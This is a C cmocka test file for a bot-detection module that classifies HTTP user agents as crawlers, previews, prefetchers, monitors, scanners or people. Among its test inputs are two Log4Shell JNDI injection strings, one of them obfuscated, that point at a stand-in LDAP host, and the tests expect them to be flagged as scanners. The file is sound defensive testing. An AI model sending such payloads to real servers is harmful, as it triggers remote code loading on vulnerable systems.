#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "common/agent/bots.h"
#include "common/agent/verdict.h"

/* Sets `path` to the name of a new file. */
static void put_file(char *path, const char *text)
{
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, strlen(text)), strlen(text));
	close(fd);
}

/* Either argument may be NULL. */
static struct bots *load_both(const char *list, const char *patterns,
			      struct error *err)
{
	static char excepted[] = "Phone1\\.2", excepted_too[] = "^walk";
	char *items[] = {excepted, excepted_too};
	struct setting_strings except = {items, 2};
	char list_path[] = "/tmp/shortloop-bots-XXXXXX";
	char patterns_path[] = "/tmp/shortloop-patterns-XXXXXX";
	struct bots_source source = {.except = &except};
	struct bots *bots;

	if (list) {
		put_file(list_path, list);
		source.list = list_path;
	}
	if (patterns) {
		put_file(patterns_path, patterns);
		source.patterns = patterns_path;
	}
	bots = bots_load(&source, true, err);
	if (list)
		unlink(list_path);
	if (patterns)
		unlink(patterns_path);
	return bots;
}

static struct bots *load_robot_list(const char *text, struct error *err)
{
	return load_both(text, NULL, err);
}

static const char list[] =
	"[{\"pattern\": \"Crawl(er|y)\"},"
	"{\"pattern\": \"Peek\\\\/\","
	" \"tags\": [\"x\", \"social-preview\"]},"
	"{\"pattern\": \"UpYet\", \"tags\": [\"monitoring\"]},"
	"{\"pattern\": \"Probe\", \"tags\": [\"scanner\"]},"
	"{\"pattern\": \"Model\","
	" \"tags\": [\"social-preview\", \"ai-crawler\"]},"
	"{\"pattern\": \"Phone1\\\\.2\"}]";

/* Returns -1 if it is no robot. */
static int kind_of(const char *user_agent)
{
	struct error err = {0};
	struct bots *bots = load_robot_list(list, &err);
	struct pattern_matcher *m;
	struct bot bot;
	int found = -1;

	assert_non_null(bots);
	m = pattern_matcher_new(bots_patterns(bots), &err);
	if (bots_find(bots, m, user_agent, strlen(user_agent), false, &bot))
		found = (int)bot.kind;
	pattern_matcher_free(m);
	bots_free(bots);
	return found;
}

static void a_robot_is_known_by_its_pattern(void **state)
{
	(void)state;
	assert_int_equal(kind_of("a Crawly/1.0"), BOT_CRAWLER);
	assert_int_equal(kind_of("a crawly/1.0"), -1);
	assert_int_equal(kind_of(""), -1);
}

static void tags_tell_what_it_is_for(void **state)
{
	(void)state;
	assert_int_equal(kind_of("Peek/2"), BOT_PREVIEW);
	assert_int_equal(kind_of("UpYet"), BOT_MONITOR);
	assert_int_equal(kind_of("Probe"), BOT_SCANNER);
	assert_int_equal(kind_of("Model"), BOT_CRAWLER);
}

static void a_purpose_is_more_than_a_crawler(void **state)
{
	(void)state;
	assert_int_equal(kind_of("UpYet by Crawler/2"), BOT_MONITOR);
	assert_int_equal(kind_of("Crawler Model"), BOT_CRAWLER);
}

static void a_pattern_excepted_is_no_robot(void **state)
{
	(void)state;
	assert_int_equal(kind_of("Phone1.2"), -1);
	assert_int_equal(kind_of("Phone1.2 Crawler"), BOT_CRAWLER);
}

static void our_own_need_no_list(void **state)
{
	static const struct {
		const char *user_agent;
		enum bot_kind kind;
	} cases[] = {
		{"WhatsApp/2.23.20.0 A", BOT_PREVIEW},
		{"WhatsApp/2", BOT_PREVIEW}, /* Signal */
		{"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
		 BOT_PREVIEW},
		{"Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
		 BOT_PREFETCH},
		{"Mozilla/4.0 (compatible; ms-office; MSOffice rmj)",
		 BOT_PREFETCH},
		{"Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook "
		 "16.0.6326; Pro)",
		 BOT_PREFETCH},
		{"Microsoft Office Word 2014", BOT_PREFETCH},
		{"Microsoft Office Protocol Discovery", BOT_PREFETCH},
		{"Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; "
		 "Trident/8.0; Microsoft Outlook 16.0.6366; ms-office; "
		 "MSOffice 16)",
		 BOT_PREFETCH},
		{"MacOutlook/16.12.0.180401 (Intelx64 Mac OS X)", BOT_PREFETCH},
		{"Slackbot 1.0 (+https://api.slack.com/robots)", BOT_CRAWLER},
		{"TelegramBot (like TwitterBot)", BOT_PREVIEW},
		{"Mozilla/5.0 (compatible; Discordbot/2.0; "
		 "+https://discordapp.com)",
		 BOT_PREVIEW},
		/* iMessage */
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) "
		 "AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
		 "Safari/601.2.4 facebookexternalhit/1.1 Facebot "
		 "Twitterbot/1.0",
		 BOT_PREVIEW},
		{"LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient "
		 "+http://www.linkedin.com)",
		 BOT_PREVIEW},
		{"Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview "
		 "Preview/0.5",
		 BOT_PREVIEW},
		{"Viber/13.3.0.5 CFNetwork/1121.2.2 Darwin/19.3.0",
		 BOT_PREVIEW},
		{"Mozilla/5.0+(compatible; UptimeRobot/2.0; "
		 "http://www.uptimerobot.com/)",
		 BOT_MONITOR},
		{"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
		 BOT_MONITOR},
		{"kube-probe/1.29", BOT_MONITOR},
		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; "
		 "https://nmap.org/book/nse.html)",
		 BOT_SCANNER},
		{"sqlmap/1.7", BOT_SCANNER},
		{"meta-externalagent/1.1", BOT_CRAWLER},
	};
	const struct bots_source none = {0};
	struct error err = {0};
	struct bots *bots = bots_load(&none, true, &err);
	struct pattern_matcher *m =
		pattern_matcher_new(bots_patterns(bots), &err);
	struct bot bot;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		const char *ua = cases[i].user_agent;

		if (!bots_find(bots, m, ua, strlen(ua), false, &bot))
			fail_msg("nobody knows %s", ua);
		if (bot.kind != cases[i].kind)
			fail_msg("%s is %d by %s", ua, bot.kind, bot.pattern);
		assert_int_equal(bot.entry, 0);
	}
	pattern_matcher_free(m);
	bots_free(bots);
}

/* The built-in browsers of apps have the apps' names in their agents. */
static void people_in_apps_are_people(void **state)
{
	static const char *const people[] = {
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) "
		"AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22B83 "
		"[FBAN/FBIOS;FBAV/490.0.0.40.108;FBBV/664023123]",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) "
		"AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
		"Instagram 334.0.0.30.99 (iPhone14,2; iOS 17_5)",
		"Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36 (KHTML, "
		"like Gecko) Chrome/122.0 Mobile Safari/537.36 Line/14.3.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) "
		"AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
		"Mobile/15E148 Snapchat/12.80.0.30",
		"Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, "
		"like Gecko) Version/4.0 Chrome/124.0 Mobile Safari/537.36 "
		"KAKAOTALK/10.7.5",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
		"(KHTML, like Gecko) Teams/1.5.00.21463 Chrome/85.0.4183.121 "
		"Electron/10.4.7 Safari/537.36",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(people) / sizeof(*people); i++)
		if (kind_of(people[i]) != -1)
			fail_msg("%s", people[i]);
}

static void assert_refused(const char *text, const char *reason)
{
	struct error err = {0};

	assert_null(load_robot_list(text, &err));
	assert_int_equal(err.code, ERROR_CONFIG);
	if (!strstr(err.text, reason))
		fail_msg("%s", err.text);
}

static void a_list_of_another_form_is_refused(void **state)
{
	(void)state;
	assert_refused("", ":1:0: ");
	assert_refused("{}", "expected an array of patterns");
	assert_refused("[]", "expected an array of patterns");
	assert_refused("[{\"pattern\": \"a\"}, 5]",
		       "entry 1: expected an object with a pattern");
	assert_refused("[{\"pattern\": \"(\"}]", "entry 0: (: at character");
}

/* --- patterns and forms ----------------------------------------------------
 */

static const char patterns[] =
	"[\"fetch(?!er)\", \"(?<!cam)scan\", \"\\\\.com\\\\b\", \"^walk\","
	" \"(?:^|[^g])news(?!sapphire)\"]";

#define BROWSER "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 "

/* Returns the reason, or "" for a person. */
static const char *reason_of(const char *user_agent, bool device)
{
	struct error err = {0};
	struct bots *bots = load_both(NULL, patterns, &err);
	struct pattern_matcher *m;
	const char *reason = "";
	struct bot bot;

	if (!bots)
		fail_msg("%s", err.text);
	m = pattern_matcher_new(bots_patterns(bots), &err);
	if (bots_find(bots, m, user_agent, strlen(user_agent), device, &bot))
		reason = verdict_of_bot(&bot).reason;
	pattern_matcher_free(m);
	bots_free(bots);
	return reason;
}

static void assert_reason(const char *user_agent, const char *reason)
{
	const char *found = reason_of(user_agent, false);

	if (strcmp(found, reason) != 0)
		fail_msg("%s: %s", user_agent, found);
}

static void patterns_match_in_either_case(void **state)
{
	(void)state;
	assert_reason("Some Fetch/2", "listed pattern");
	assert_reason("Some Fetcher/2", "");
	assert_reason("webSCAN", "listed pattern");
	assert_reason("a CamScanner", "");
	assert_reason("Walker 1", ""); /* an exception */
}

static void a_vague_pattern_is_not_believed_of_a_browser(void **state)
{
	(void)state;
	assert_reason("StumbleUpon.com 1.9", "listed pattern");
	assert_reason(BROWSER "Firefox/140.0 StumbleUpon.com", "");
	assert_reason("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; "
		      "sureseeker.com)",
		      "");
	assert_reason("Nokia6600/1.0 (any.com)", "");
	assert_reason(BROWSER "Firefox/140.0 webscan", "listed pattern");
	assert_string_equal(reason_of("reader of News", false),
			    "listed pattern");
	assert_string_equal(reason_of("reader of News", true), "");
	assert_string_equal(reason_of("scan", true), "listed pattern");
}

static void the_form_tells_robots(void **state)
{
	(void)state;
	assert_reason("-", "no user agent");
	assert_reason("(null)", "no user agent");
	assert_reason("&as_qdr=all", "no product name");
	assert_reason("https://example.org/", "no product name");
	assert_reason("Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)",
		      "e-mail address");
	assert_reason("Accoona/1.1 (crew at accoona dot com)",
		      "e-mail address");
	assert_reason("UniversalFeedParser/4.2-pre-314-svn "
		      "+http://feedparser.org/",
		      "page about it");
	assert_reason("Liferea/1.8.3 (Linux; en_GB; http://liferea.sf.net/)",
		      "page about it");
	assert_reason("Mozilla/4.0 (compatible;)", "no browser named");
	assert_reason("Mozilla/5.0", "no browser named");
	assert_reason("Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
		      "no browser named");
	assert_reason("Mozilla/5.0 (X11; Linux x86_64)", "no browser named");
	assert_reason("portscout/0.8.1", "HTTP library");
	assert_reason("Dart/3.3 (dart:io)", "HTTP library");
	assert_reason("${jndi:ldap://192.0.2.7/a}", "listed scanner");
	assert_reason("Mozilla/5.0 ${${::-j}ndi:ldap://192.0.2.7/a}",
		      "listed scanner");
	assert_reason("fetch libfetch/2.0", "HTTP library");
	assert_reason("Ruby", "HTTP library");
	assert_reason(BROWSER "Firefox/9 (a bot)", "calls itself a robot");
}

static void the_form_leaves_people_alone(void **state)
{
	static const char *const people[] = {
		BROWSER "Firefox/140.0",
		"Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0)",
		"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; "
		"@lee-road.co.uk)",
		"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; "
		"Net M@nager V4.00 - www.vinn.com.au)",
		"Mozilla/4.0 (compatible; MSIE 5.5; Windows 98; DT; "
		"http://www.Abolimba.de)",
		"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; "
		"Trident/5.0; chromeframe/19.0.1084.52)",
		"MAXX_MAUI WAP Browser",
		"User-Agent: Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 "
		"(KHTML, like Gecko) Chrome/32.0.1700.107 Safari/537.36",
		"Mozilla/5.0 (Linux; Android 9; CUBOT Build/PPR1; wv) "
		"AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.159",
		"Mozilla/5.0 (X11; U; Linux i686) Gecko/20030311 "
		"Galeon/1.3.3,gzip(gfe) (via translate.google.com)",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(people) / sizeof(*people); i++)
		assert_reason(people[i], "");
}

static void assert_patterns_refused(const char *text, const char *reason)
{
	struct error err = {0};

	assert_null(load_both(NULL, text, &err));
	assert_int_equal(err.code, ERROR_CONFIG);
	if (!strstr(err.text, reason))
		fail_msg("%s", err.text);
}

/* PCRE2 takes only lookbehind of a fixed length, and no hyphen after \w. */
static void a_pattern_that_is_only_javascript_is_refused(void **state)
{
	(void)state;
	assert_patterns_refused("[\"a\", \"(?<=a+)b\"]", "entry 1: (?<=a+)b");
	assert_patterns_refused("[\"[\\\\w-.]\"]",
				"entry 0: [\\w-.]: at character");
	assert_patterns_refused("[{\"pattern\": \"a\"}]",
				"entry 0: expected a pattern");
	assert_patterns_refused("{}", "expected an array of patterns");
}

static struct verdict decide_verdict(const char *purpose, bool head,
				     enum verdict_kind by_user_agent)
{
	return verdict_of_request(purpose, head,
				  (struct verdict){by_user_agent, "agent"});
}

static void a_prefetch_is_no_visit(void **state)
{
	struct verdict v =
		decide_verdict("prefetch;prerender", false, VERDICT_HUMAN);

	(void)state;
	assert_int_equal(v.kind, VERDICT_PREFETCH);
	assert_string_equal(v.reason, "purpose header");
}

static void a_head_request_is_no_visit(void **state)
{
	struct verdict v = decide_verdict("", true, VERDICT_HUMAN);

	(void)state;
	assert_int_equal(v.kind, VERDICT_PREFETCH);
	assert_string_equal(v.reason, "HEAD request");
}

static void a_robot_that_prefetches_is_a_robot(void **state)
{
	struct verdict v = decide_verdict("prefetch", true, VERDICT_MONITOR);

	(void)state;
	assert_int_equal(v.kind, VERDICT_MONITOR);
	assert_string_equal(v.reason, "agent");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_robot_is_known_by_its_pattern),
		cmocka_unit_test(tags_tell_what_it_is_for),
		cmocka_unit_test(a_purpose_is_more_than_a_crawler),
		cmocka_unit_test(a_pattern_excepted_is_no_robot),
		cmocka_unit_test(our_own_need_no_list),
		cmocka_unit_test(people_in_apps_are_people),
		cmocka_unit_test(a_list_of_another_form_is_refused),
		cmocka_unit_test(patterns_match_in_either_case),
		cmocka_unit_test(a_vague_pattern_is_not_believed_of_a_browser),
		cmocka_unit_test(the_form_tells_robots),
		cmocka_unit_test(the_form_leaves_people_alone),
		cmocka_unit_test(a_pattern_that_is_only_javascript_is_refused),
		cmocka_unit_test(a_prefetch_is_no_visit),
		cmocka_unit_test(a_head_request_is_no_visit),
		cmocka_unit_test(a_robot_that_prefetches_is_a_robot),
	};

	return cmocka_run_group_tests_name("bots", tests, NULL, NULL);
}
